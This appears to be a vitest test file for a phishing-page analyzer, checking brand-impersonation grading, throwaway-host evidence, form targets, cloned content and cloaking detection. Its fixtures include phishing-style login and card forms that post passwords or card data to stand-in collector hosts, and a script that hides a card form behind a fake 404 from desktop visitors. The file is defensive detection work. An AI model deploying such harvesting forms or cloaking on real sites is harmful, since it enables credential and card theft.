import { describe, expect, it } from "vitest";
import { brandsNamedIn } from "./agents/brand-names.js";
import { genericName, selfName } from "./agents/content/brand.js";
import { claimSeverity } from "./agents/content/index.js";
import { buildContext } from "./agents/context.js";
import { hostEvidence } from "./agents/host-evidence.js";
import { savedCapture } from "./agents/testing/fixture-scan.js";
import { analyzeScan } from "./analyze.js";
import type { DomSnapshot } from "./capture/snapshot.js";
import { savedCapture as savedPageCapture } from "./saved.js";
import type { ScanCapture, ScanReport } from "./types.js";

function page(title: string, body: string, head = ""): string {
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;
}

function scan(capture: ScanCapture): Promise<ScanReport> {
  return analyzeScan(
    { capture, artifacts: { viewport: null, fullPage: null } },
    { vision: null, rankLookup: false },
  );
}

const analyze = (url: string, html: string) => scan(savedCapture(url, html));
const codes = (report: ScanReport) => report.evidence_findings.map((f) => f.finding_id);
const finding = (report: ScanReport, code: string) =>
  report.evidence_findings.find((f) => f.finding_id === code);

describe("claims against ownership: one rule for every place a page claims a brand", () => {
  it("grades the claim by its places and raises it one step per host, pressure and stub evidence", () => {
    const none = { host: false, pressure: false, stub: false };
    expect(claimSeverity(["title"], none)).toBe("Low");
    expect(claimSeverity(["logo"], none)).toBe("Low");
    expect(claimSeverity(["copyright"], none)).toBe("Medium");
    expect(claimSeverity(["title", "wordmark"], none)).toBe("Medium");
    expect(claimSeverity(["title", "wordmark", "form"], none)).toBe("High");
    expect(claimSeverity(["title"], { ...none, host: true })).toBe("Medium");
    expect(claimSeverity(["title"], { ...none, stub: true })).toBe("Medium");
    expect(claimSeverity(["title"], { host: true, pressure: true, stub: false })).toBe("High");
    expect(claimSeverity(["title", "wordmark", "form"], { host: true, pressure: true, stub: true })).toBe(
      "High",
    );
    // The vision agent's places are weighed by the vision agent, not here.
    expect(claimSeverity(["title", "vision_logo"], none)).toBe("Low");
  });

  it("lists what makes a host throwaway, and nothing for an ordinary one", () => {
    const evidence = (url: string) =>
      hostEvidence(buildContext(savedCapture(url, page("x", "<p>x</p>")), { rankLookup: false }));
    expect(evidence("https://www.fernway-grocers.com/")).toEqual([]);
    expect(evidence("https://x7kq2-resolve.duckdns.org/")[0]).toMatch(/user's site on duckdns\.org/);
    expect(evidence("http://198.51.100.7:8080/login")).toEqual(
      expect.arrayContaining([expect.stringMatching(/IP address/), "port 8080"]),
    );
    expect(evidence("https://account-verify-center.top/").join("; ")).toMatch(/\.top.*lure words/);
  });

  it("calls a page that shows nothing but a brand's name, off the brand's domain, Suspicious and says why", async () => {
    const report = await analyze(
      "https://www.harbourline-office.com/",
      page("PayPal", "<div id='app'></div>"),
    );
    expect(report.final_assessment).toBe("Suspicious");
    expect(report.site_context?.detected_brand).toBe("PayPal");
    expect(finding(report, "CON-020")?.details).toMatch(/shows nothing else/);
    expect(report.executive_summary).toMatch(/presents itself as PayPal/);
  });

  it("takes the address as the only claim of a stub on a host naming a brand with a whole label", async () => {
    const stub = await analyze("https://smbc.quanchengapp.com/", page("", "<div id='app'></div>"));
    expect(stub.final_assessment).toBe("Suspicious");
    expect(stub.site_context?.detected_brand).toBe("SMBC");
    // An ordinary word that is also a brand's name claims nothing alone; nor does an ordinary host.
    const word = await analyze("https://target.harbourline-office.com/", page("", "<div id='app'></div>"));
    expect(word.final_assessment).toBe("Unknown");
    const plain = await analyze("https://www.quiet-harbor-bakery.com/", page("", "<div id='app'></div>"));
    expect(plain.final_assessment).toBe("Unknown");
    expect(plain.executive_summary).not.toMatch(/names/);
  });

  it("raises a title-only claim on a throwaway host, and leaves it Low on an ordinary one", async () => {
    const body =
      "<h1>Track your parcel</h1><p>Enter your tracking number below to see where your parcel is.</p>".repeat(
        3,
      );
    const throwaway = await analyze("https://parcel-track-7gk2.pages.dev/", page("DHL", body));
    expect(finding(throwaway, "CON-020")?.severity).toBe("Medium");
    expect(finding(throwaway, "CON-020")?.details).toMatch(/pages\.dev/);
    const ordinary = await analyze("https://www.fernway-grocers.com/shipping", page("DHL", body));
    expect(finding(ordinary, "CON-020")?.severity).toBe("Low");
    expect(ordinary.final_assessment).toBe("Benign");
  });

  it("tells a name of its own from one made only of lure words and fillers", () => {
    for (const key of ["webmail", "securelogin", "myaccountportal", "login24", "onlineservice"])
      expect(genericName(key), key).toBe(true);
    for (const key of ["tasknest", "kancelarianowak", "roestereihansen", "ledgerly", "zürich"])
      expect(genericName(key), key).toBe(false);
  });

  it("reads a name joined to a script written without spaces", () => {
    expect(brandsNamedIn("SMBCダイレクト｜三井住友銀行 ログイン").map((h) => h.brand.name)).toContain("SMBC");
  });

  it("does not take a free platform's bucket for an organization's own Outlook on the web", async () => {
    const report = await analyze(
      "https://pub-1f2e3d4c5b6a.r2.dev/owa/auth/logon.aspx",
      page(
        "Sign in to Outlook",
        "<form><input type='email' name='u'><input type='password' name='p'><button>Sign in</button></form>",
      ),
    );
    expect(report.final_assessment).toBe("Malicious");
    expect(report.site_context?.detected_brand).toBe("Microsoft");
  });
});

describe("the page's own name against the name's readings", () => {
  it("lets a firm's client portal post to its own tenant of a hosted service", async () => {
    const report = await analyze(
      "https://www.ledgeraccountingservices.com/client-portal",
      page(
        "Client Portal Login | Ledger Accounting Services, CPA",
        `<h1>Client portal</h1><form action="https://ledgeraccounting.smartvault.com/users/secure/login" method="post">
         <input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>
         <footer>© 2025 Ledger Accounting Services, LLC</footer>`,
      ),
    );
    expect(codes(report)).toContain("NET-032");
    expect(codes(report)).not.toContain("NET-030");
    expect(report.final_assessment).toBe("Benign");
  });

  it("still reports a form posting to an unrelated domain", async () => {
    const report = await analyze(
      "https://www.ledgeraccountingservices.com/client-portal",
      page(
        "Client Portal Login | Ledger Accounting Services, CPA",
        `<form action="https://collect.rcv-panel.com/in" method="post"><input type="email" name="email">
         <input type="password" name="password"><button>Log in</button></form>`,
      ),
    );
    expect(codes(report)).toContain("NET-030");
  });

  it("counts the name model's reading as Low when the page names its own site and poses as no brand", async () => {
    const html = page(
      "Arrange a redelivery | Swiftpost Parcels",
      "<h1>Arrange a redelivery</h1><p>Choose a new day for your parcel.</p><form action='/redelivery'><input name='ref'><button>Continue</button></form>",
    );
    const report = await analyze("https://track.swiftpost-parcels.co.uk/redelivery", html);
    if (codes(report).includes("NET-227")) expect(report.final_assessment).toBe("Benign");
    expect(report.final_assessment).not.toBe("Malicious");
  });

  it("reads lure words in a business's own name as its name when the page says so", async () => {
    const report = await analyze(
      "https://www.securepay.com.au/",
      page(
        "SecurePay | Online payments for Australian business",
        "<h1>SecurePay</h1><p>Accept payments online.</p><footer>© 2026 SecurePay Pty Ltd</footer>",
      ),
    );
    expect(report.final_assessment).toBe("Benign");
  });

  it("lets the name model decide a page of its own only with a lure the page shows", async () => {
    const url = "https://delivery-pizzeria-napoli24.de/speisekarte";
    const menu =
      "<h1>Speisekarte</h1><p>Pizza Margherita 8,50 €, Pizza Salami 9,50 €, Tiramisu 4,50 €.</p>".repeat(2);
    const plain = await analyze(url, page("Speisekarte", menu));
    expect(codes(plain)).toContain("NET-227");
    expect(plain.final_assessment).toBe("Benign");
    const pressed = await analyze(
      url,
      page(
        "Speisekarte",
        `${menu}<p>Your account will be suspended within 24 hours unless you verify your identity.</p>`,
      ),
    );
    expect(pressed.final_assessment).toBe("Suspicious");
  });

  it("judges a project's own sign-in on a platform subdomain by what it shows, not by the brands it names", async () => {
    const form =
      "<form action='/api/session' method='post'><input type='email' name='email'><input type='password' name='password'><button>Sign in</button></form>";
    const own = await analyze(
      "https://tasknest-dashboard.vercel.app/login",
      page(
        "Sign in – TaskNest",
        `<h1>TaskNest</h1><p>Task boards for small teams.</p>${form}<p><a href='/auth/google'>Sign in with Google</a></p><footer>TaskNest · student project · <a href='https://github.com/tasknest/app'>GitHub</a></footer>`,
      ),
    );
    expect(finding(own, "CON-013")?.severity).toBe("Low");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
    // The same page with pressure is a lure whatever it calls itself.
    const pressed = await analyze(
      "https://tasknest-dashboard.vercel.app/login",
      page(
        "Sign in – TaskNest",
        `<h1>TaskNest</h1><p>Your account will be suspended within 24 hours unless you verify your identity.</p>${form}`,
      ),
    );
    expect(finding(pressed, "CON-013")?.severity).toBe("Medium");
    expect(pressed.final_assessment).toBe("Suspicious");
    // A name made of lure words is no name of its own: any kit can call itself "Webmail Login".
    const generic = await analyze(
      "https://webmail-login.web.app/",
      page("Webmail Login", `<h1>Webmail Login</h1><p>Use your Microsoft account.</p>${form}`),
    );
    expect(finding(generic, "CON-013")?.severity).toBe("Medium");
    expect(generic.final_assessment).not.toBe("Benign");
  });

  it("reads a business service's tenant named after the organization the page names as its own", async () => {
    const form =
      "<form action='/access/login' method='post'><input type='email' name='user[email]'><input type='password' name='user[password]'><button>Iniciar sesión</button></form>";
    const tenant = await analyze(
      "https://helpdesk-verdantia.zendesk.com/access/normal",
      page("Inicia sesión en Verdantia Soporte", `<h1>Verdantia Soporte</h1>${form}`),
    );
    // "helpdesk" is what the tenant is for: the lure-word reading counts as Low, the sign-in is the tenant's.
    expect(finding(tenant, "NET-210")).toBeDefined();
    expect(finding(tenant, "CON-013")?.severity).toBe("Low");
    expect(tenant.final_assessment).toBe("Benign");
    // The same page on a platform anyone can publish on in a minute is still a lured sign-in.
    const builder = await analyze(
      "https://helpdesk-verdantia.weebly.com/access/normal",
      page("Inicia sesión en Verdantia Soporte", `<h1>Verdantia Soporte</h1>${form}`),
    );
    expect(builder.final_assessment).not.toBe("Benign");
    // A tenant that names no organization of its own, or one its address does not name, vouches for nothing.
    const unnamed = await analyze(
      "https://helpdesk-verdantia.zendesk.com/access/normal",
      page("Inicia sesión en Soporte", `<h1>Soporte</h1>${form}`),
    );
    expect(unnamed.final_assessment).not.toBe("Benign");
    const claimed = await analyze(
      "https://helpdesk-verdantia.zendesk.com/access/normal",
      page("Inicia sesión en PayPal Soporte", `<h1>PayPal Soporte</h1>${form}`),
    );
    expect(claimed.final_assessment).not.toBe("Benign");
  });

  it("reads a name spelled in its host without its accents or with 'and' for '&' as the page's own", () => {
    const own = (url: string, title: string) =>
      selfName(buildContext(savedCapture(url, page(title, "<h1>Welcome</h1>")), { rankLookup: false }), {
        distinctive: true,
      });
    // ö written oe, as German writes it without accents: a transliteration, read like a romanization.
    expect(own("https://www.roesterei-hansen.shop/kasse", "Kasse – Rösterei Hansen")).toBe("romanized");
    expect(own("https://moeller-tandklinik.dk/", "Møller Tandklinik")).toBe("romanized");
    expect(
      own("https://ledger-and-line.webflow.io/portal", "Client Portal | Ledger & Line Bookkeeping"),
    ).toBe("latin");
    expect(own("https://www.roesterei-hansen.shop/kasse", "Kasse – Kaffeehaus Berger")).toBeNull();
    // An ordinary word of the title that the host also spells names nobody ("aduana" is customs).
    expect(own("https://correos.aduana-pago.eu/es/envio", "Correos - Pago de tasas de aduana")).toBeNull();
    expect(own("https://itau-app-atualizacao.000webhostapp.com/acesso/", "Atualização cadastral")).toBeNull();
  });

  it("never reads a brand's name written in lower case as the site's own name, and keeps the claim", async () => {
    // The kit writes the brand's wordmark in lower case ("enel") on a host that spells it: no self-name.
    const html = page(
      "Enel Energia - Area Clienti | Pagamento bolletta",
      `<div class="logo">enel</div><h1>Pagamento bolletta</h1><form action="conferma.php" method="post">
       <input name="cc" autocomplete="cc-number" placeholder="Numero carta"><input name="cvv" autocomplete="cc-csc">
       <button>Paga</button></form>`,
    );
    const url = "https://enel-energia-bolletta.sbs/area-clienti/pagamento.php";
    expect(selfName(buildContext(savedCapture(url, html), { rankLookup: false }))).toBeNull();
    const report = await analyze(url, html);
    expect(report.site_context?.detected_brand).toBe("Enel");
    expect(report.final_assessment).toBe("Malicious");
    // A business whose own name is its host's is still itself.
    const own = page("Kasse – Rösterei Hansen", "<div class='logo'>roesterei hansen</div><h1>Kasse</h1>");
    expect(
      selfName(
        buildContext(savedCapture("https://www.roesterei-hansen.shop/kasse", own), { rankLookup: false }),
      ),
    ).not.toBeNull();
  });

  it("takes a file-sharing service's own reset page for the service's, not a user's file", async () => {
    const reset = (action: string) =>
      page(
        "Reset password - Dropbox",
        `<h1>Create a new password</h1><p>Enter a new password for m.okafor@fastmail.com.</p>
         <form method="post" action="${action}"><input type="password" name="password" autocomplete="new-password">
         <input type="password" name="confirm" autocomplete="new-password"><button>Change password</button></form>`,
      );
    const own = await analyze("https://www.dropbox.com/reset_password?t=rp_1", reset("/ajax_reset_password"));
    expect(codes(own)).not.toContain("CON-013");
    expect(own.final_assessment).toBe("Benign");
    // A form on the service's host that sends the password elsewhere is no page of the service.
    const elsewhere = await analyze(
      "https://www.dropbox.com/reset_password?t=rp_1",
      reset("https://collect-7f2.example-drop.top/r.php"),
    );
    expect(elsewhere.final_assessment).not.toBe("Benign");
  });

  it("reads a promise never to ask for a brand's password as no ask for it", async () => {
    const signIn = (warning: string) =>
      page(
        "Client Portal | Ledger & Line Bookkeeping",
        `<h1>Client login</h1><form method="post" action="https://api.ledgerandline.co.uk/portal/session">
         <input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>
         <p>${warning}</p>`,
      );
    const promise = await analyze(
      "https://ledger-and-line.webflow.io/portal",
      signIn("I will never ask you for your HMRC Government Gateway password."),
    );
    expect(finding(promise, "CON-013")?.severity).toBe("Low");
    expect(promise.final_assessment).toBe("Benign");
    const ask = await analyze(
      "https://ledger-and-line.webflow.io/portal",
      signIn("Enter your HMRC Government Gateway password to link your return."),
    );
    expect(finding(ask, "CON-013")?.severity).toBe("Medium");
  });

  it("takes a platform's own name in the site-name tag of its user's page for the platform's label", async () => {
    const post = await analyze(
      "https://moaletter.notion.site/backend-engineer",
      page(
        "[채용] 백엔드 엔지니어 | 모아레터",
        "<h1>백엔드 엔지니어</h1><p>결제·정산 팀에서 함께할 분을 찾습니다.</p>",
        '<meta property="og:site_name" content="Notion">',
      ),
    );
    expect(codes(post)).not.toContain("CON-020");
    expect(post.final_assessment).toBe("Benign");
    // A sign-in under the platform's name in the page's own title still claims it.
    const kit = await analyze(
      "https://moaletter.notion.site/login",
      page(
        "Notion – Log in",
        "<form action='https://n0tion-auth.example-kit.top/p.php' method='post'><input type='email' name='e'><input type='password' name='p'><button>Continue</button></form>",
        '<meta property="og:site_name" content="Notion">',
      ),
    );
    expect(codes(kit)).toContain("CON-020");
  });

  it("reads a common phrase that spells a dictionary-word bank's name as the phrase", async () => {
    const cloud = await analyze(
      "https://nuage.jardins-lyon7.fr/login",
      page(
        "Nuage des Jardins Partagés de Lyon 7e",
        "<h1>Nuage des Jardins Partagés</h1><form action='/index.php/login' method='post'><input name='user'><input type='password' name='password'><button>Se connecter</button></form>",
      ),
    );
    expect(codes(cloud)).not.toContain("CON-021");
    expect(cloud.final_assessment).toBe("Benign");
  });

  it("lets a shop's own card checkout on a shop TLD pass when nothing else looks like a fake shop", async () => {
    const checkout = (title: string, extra = "") =>
      page(
        title,
        `<h1>Boulangerie Mathis</h1><p>Commande de Noël : bûche, pain d'épices.</p>${extra}<form action='/commande/payer' method='post'><input name='cc' autocomplete='cc-number'><input name='exp' autocomplete='cc-exp'><input name='cvc' autocomplete='cc-csc'><button>Payer 38,50 €</button></form>`,
      );
    const own = await analyze(
      "https://www.boulangerie-mathis.shop/commande/paiement",
      checkout("Paiement – Boulangerie Mathis"),
    );
    expect(own.final_assessment).toBe("Benign");
    // The same checkout with a password beside the card is no plain checkout.
    const withPassword = await analyze(
      "https://www.boulangerie-mathis.shop/commande/paiement",
      checkout("Paiement – Boulangerie Mathis", "<input type='password' name='pw'>"),
    );
    expect(withPassword.final_assessment).toBe("Suspicious");
    // Under a subdomain that spells another party's address it is no shop's own domain.
    const refund = await analyze(
      "https://turkiye-gov-tr.iade-basvuru.online/",
      page(
        "İade Başvuru",
        "<h1>İade Başvuru</h1><form action='/odeme' method='post'><input name='cc' autocomplete='cc-number'><input name='cvc' autocomplete='cc-csc'><button>Gönder</button></form>",
      ),
    );
    expect(refund.final_assessment).not.toBe("Benign");
  });

  it("does not let the name model decide a project's own sign-in on a platform subdomain named like it", async () => {
    const signIn = (title: string) =>
      page(
        title,
        `<h1>${title}</h1><p>Bookkeeping for freelancers.</p><form action='/api/login' method='post'><input type='email' name='email'><input type='password' name='password'><button>Sign in</button></form>`,
      );
    const own = await analyze("https://ledgerly-app.web.app/signin", signIn("Ledgerly"));
    // The shipped model reads this user label as phishing (at the user-site level).
    expect(finding(own, "NET-227")?.severity).toBe("Medium");
    expect(finding(own, "CON-013")?.severity).toBe("Low");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
    // A page that does not go by the site's name gets no such benefit of the doubt.
    const anonymous = await analyze("https://ledgerly-app.web.app/signin", signIn("Sign in"));
    expect(anonymous.final_assessment).toBe("Suspicious");
  });

  it("reads a project's own name written in another script than its host's", async () => {
    const signIn = (extra: string) =>
      page(
        "별빛요가",
        `<h1>별빛요가</h1><p>요가 수업 예약</p>${extra}<form action='/api/login' method='post'><input type='email' name='email'><input type='password' name='password'><button>로그인</button></form><p><a href='/auth/kakao'>카카오로 로그인</a></p>`,
      );
    const own = await analyze("https://byeolbit-yoga.pages.dev/login", signIn(""));
    expect(finding(own, "CON-013")?.severity).toBe("Low");
    expect(codes(own)).not.toContain("CON-021");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
    // A page of its own that asks for another brand's password is a lure whatever it calls itself.
    const lure = await analyze(
      "https://byeolbit-yoga.pages.dev/login",
      signIn("<p>계속하려면 Kakao 계정 비밀번호를 다시 입력하세요.</p>"),
    );
    expect(finding(lure, "CON-013")?.severity).toBe("Medium");
  });

  it("does not let the name model decide a shop's own checkout that goes by its host's name", async () => {
    const checkout = (title: string) =>
      page(
        `${title} — Ολοκλήρωση παραγγελίας`,
        `<h1>${title}</h1><p>Θυμαρίσιο μέλι 450 g — 12,00 €</p><form action='/checkout/process' method='post'><input name='name'><input name='cardnumber' autocomplete='cc-number'><input name='cvc' autocomplete='cc-csc'><button>Πληρωμή</button></form><footer>© 2026 ${title}</footer>`,
      );
    const own = await analyze("https://melissonas.shop/checkout", checkout("Μελισσώνας"));
    // The shipped model reads the name as phishing.
    expect(finding(own, "NET-227")?.severity).toBe("Medium");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
    const anonymous = await analyze("https://melissonas.shop/checkout", checkout("Κατάστημα"));
    expect(anonymous.final_assessment).toBe("Suspicious");
  });

  it("does not count a sign-in on a domain that looks throwaway only to the name model as agreeing with it", async () => {
    const login = (extra: string) =>
      page(
        "Kovács Építész Iroda — Felhő",
        `<h1>Felhő</h1>${extra}<form action='/login' method='post'><input name='user'><input type='password' name='password'><button>Bejelentkezés</button></form>`,
      );
    const plain = await analyze("https://felho.kovacs-epitesz.hu/login", login(""));
    // The shipped model reads the name as phishing, and that is all that makes the host look throwaway.
    expect(finding(plain, "NET-227")?.severity).toBe("Medium");
    expect(finding(plain, "CON-013")?.details).toMatch(/learned name model/);
    expect(["Benign", "Unknown"]).toContain(plain.final_assessment);
    // A lure the page shows still agrees with the name model.
    const pressed = await analyze(
      "https://felho.kovacs-epitesz.hu/login",
      login("<p>Your account will be suspended within 24 hours unless you verify your identity.</p>"),
    );
    expect(pressed.final_assessment).toBe("Suspicious");
  });

  it("takes gitlab.<company> signing in to itself for the organization's own install", async () => {
    const html = page(
      "Sign in · GitLab",
      "<h1>Brennwerk Energie GitLab</h1><form action='/users/auth/ldapmain/callback' method='post'><input name='username'><input type='password' name='password'><button>Sign in</button></form>",
    );
    const own = await analyze("https://gitlab.brennwerk-energie.de/users/sign_in", html);
    expect(codes(own)).not.toContain("CON-021");
    expect(own.final_assessment).not.toBe("Malicious");
    expect(own.final_assessment).not.toBe("Suspicious");
    // The product's name with lure words around it is no install's host name.
    const lured = await analyze("https://gitlab-login-verify.brennwerk-energie.de/users/sign_in", html);
    expect(["Malicious", "Suspicious"]).toContain(lured.final_assessment);
  });

  it("lets a platform user site send its sign-up to the domain it is named after", async () => {
    const html = (action: string) =>
      page(
        "Pluvio Cloud – create an account",
        `<h1>Pluvio Cloud</h1><p>Sync your weather stations.</p><form action='${action}' method='post'><input type='email' name='email'><input type='password' name='password'><button>Create account</button></form>`,
      );
    const own = await analyze(
      "https://pluvio-weather.github.io/pluvio/cloud/",
      html("https://api.pluvio-weather.org/v1/accounts"),
    );
    expect(finding(own, "NET-032")?.details).toMatch(/pluvio-weather\.org has the name/);
    expect(codes(own)).not.toContain("NET-030");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
    const elsewhere = await analyze(
      "https://pluvio-weather.github.io/pluvio/cloud/",
      html("https://collect.harbourline-office.com/v1/accounts"),
    );
    expect(finding(elsewhere, "NET-030")?.severity).toBe("High");
  });

  it("weighs a staff PIN on a rota app's own user site as on any site", async () => {
    const html = page(
      "RotaSpace – sign in",
      "<h1>RotaSpace</h1><form action='/session' method='post'><input type='email' name='email'><input type='password' name='password'><button>Manager sign in</button></form><form action='/session/pin' method='post'><input name='workplace'><label for='pin'>4-digit PIN</label><input id='pin' name='pin' type='password' inputmode='numeric' maxlength='4'><button>Staff sign in</button></form>",
    );
    const own = await analyze("https://rotaspace.onrender.com/login", html);
    expect(finding(own, "CON-003")?.severity).toBe("Low");
    expect(["Benign", "Unknown"]).toContain(own.final_assessment);
  });

  it("does not take an identity provider's sign-in button for a lure", async () => {
    const login = (extra: string) =>
      page(
        "ログイン | キオクモ",
        `<h1>キオクモ</h1><form action='/__/auth/login' method='post'><input type='email' name='email'><input type='password' name='password'><button>ログインする</button></form>${extra}`,
      );
    const sso = await analyze(
      "https://kiokumo.web.app/login",
      login("<button>Googleアカウントでログイン</button><a href='/auth/github'>Continue with GitHub</a>"),
    );
    expect(finding(sso, "CON-013")?.severity).toBe("Low");
    // "Continue with GitHub" offers a way to sign in; it is no wordmark claiming to be GitHub.
    expect(codes(sso)).not.toContain("CON-020");
    expect(codes(sso)).not.toContain("CON-021");
    expect(["Benign", "Unknown"]).toContain(sso.final_assessment);
    // The same brand named in the page's own text is what a kit on a platform writes.
    const lure = await analyze(
      "https://kiokumo.web.app/login",
      login("<p>Google アカウントの確認が必要です。Google のパスワードを入力してください。</p>"),
    );
    expect(finding(lure, "CON-013")?.severity).toBe("Medium");
  });

  it("takes a login on an address of the visitor's own network for a local device's, not a drop", async () => {
    const router = (host: string) =>
      page(
        "FRITZ!Box",
        `<h1>Willkommen bei Ihrer FRITZ!Box</h1><form action='http://${host}/login' method='post'><input type='password' name='pw'><button>Anmelden</button></form>`,
      );
    const local = await analyze("http://192.168.178.1/", router("192.168.178.1"));
    expect(codes(local)).not.toContain("CON-013");
    expect(finding(local, "NET-212")?.severity).toBe("Low");
    expect(finding(local, "NET-031")?.severity).toBe("Low");
    expect(["Benign", "Unknown"]).toContain(local.final_assessment);
    // The same page on a public address is a password asked on a bare IP.
    const remote = await analyze("http://198.51.100.7/", router("198.51.100.7"));
    expect(codes(remote)).toContain("CON-013");
    expect(finding(remote, "NET-212")?.severity).toBe("Medium");
    expect(finding(remote, "NET-031")?.severity).toBe("Medium");
  });

  it("takes a mailbox notice on a page naming its own site for that site's webmail, not a lure", async () => {
    const report = await analyze(
      "https://messagerie.lumiere-telecom.fr/connexion",
      page(
        "Messagerie | Lumière Télécom",
        "<p>Votre boîte de réception est pleine : connectez-vous pour faire de la place.</p><form action='/connexion/verifier' method='post'><input type='email' name='u'><input type='password' name='p'><button>Connexion</button></form>",
      ),
    );
    expect(codes(report)).not.toContain("CON-023");
    expect(report.final_assessment).toBe("Benign");
  });
});

describe("cloned content named by the copied site's own name", () => {
  it("flags a news home page copied onto a workers.dev host whose links were stripped", async () => {
    const report = await analyze(
      "https://news-feed-3k.quiet-mirror.workers.dev/",
      page(
        "Home - BBC News",
        `<div>BBC</div><h2>Ministers face fresh questions</h2><p>Story text.</p><a href="#">Home</a>
         <footer>Copyright © 2026 BBC. The BBC is not responsible for the content of external sites.</footer>`,
        `<link rel="canonical" href="https://www.bbc.com/news"><meta property="og:url" content="https://www.bbc.com/news"><meta property="og:site_name" content="BBC News">`,
      ),
    );
    expect(report.final_assessment).toBe("Suspicious");
    expect(report.threat_type).toBe("Cloned Site");
    expect(finding(report, "CON-025")?.details).toMatch(/bbc\.com.*calls itself by its name/);
  });
});

describe("a saved page's render", () => {
  const base = "https://usps.redelivery-track-ux.top/us/";
  const markup = page(
    "USPS Redelivery",
    `<form id="f"><input name="cardnumber" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc"></form>
     <script>if(!/Mobile/.test(navigator.userAgent)){document.documentElement.innerHTML='<h1>404 Not Found</h1>';}</script>`,
  );
  const snapshot = (html: string, text: string): DomSnapshot => ({
    url: base,
    title: "",
    lang: null,
    html,
    htmlLength: html.length,
    text,
    textLength: text.length,
    forms: [],
    icons: [],
    height: 800,
    width: 1280,
  });

  it("keeps the markup when the page's scripts took away every field it declares (cloaking)", async () => {
    const capture = savedPageCapture(base, markup, {
      rendered: snapshot("<html><body><h1>404 Not Found</h1></body></html>", "404 Not Found"),
    });
    expect(capture.text).toMatch(/^(?!404 Not Found$)/);
    const report = await scan(capture);
    expect(report.final_assessment).toBe("Malicious");
    expect(report.threat_type).toBe("Phishing / Payment Card Theft");
  });

  it("uses the rendered document when it shows what the markup does", () => {
    const rendered = snapshot(`<html><body><h1>Track</h1><input name="q"></body></html>`, "Track");
    const capture = savedPageCapture(base, markup, { rendered });
    expect(capture.html).toBe(rendered.html);
    expect(capture.text).toBe("Track");
  });
});
